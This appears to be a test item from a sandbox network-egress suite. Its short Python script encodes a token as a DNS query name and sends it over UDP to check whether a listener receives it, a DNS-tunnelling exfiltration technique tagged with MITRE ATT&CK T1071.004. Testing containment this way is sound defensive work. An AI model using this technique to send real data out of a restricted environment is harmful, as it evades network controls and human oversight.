# id: network/dns-tunnel
# class: Exfil
# title: Send data out as a question about a name
# intent: Puts a token into the name that a DNS query asks for
# success: The host's listener has got the token
# source: MITRE ATT&CK T1071.004; AISI, Kubernetes sandbox, network access
# evidence: listener udp
# host: safe
import socket

last = None
labels = b"".join(bytes([len(part)]) + part for part in (TOKEN.encode(), b"x", b"test"))
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"
for address in ADDRESSES:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(query, (address, PORT))
    except OSError as error:
        last = error
stopped(last) if last else finished()
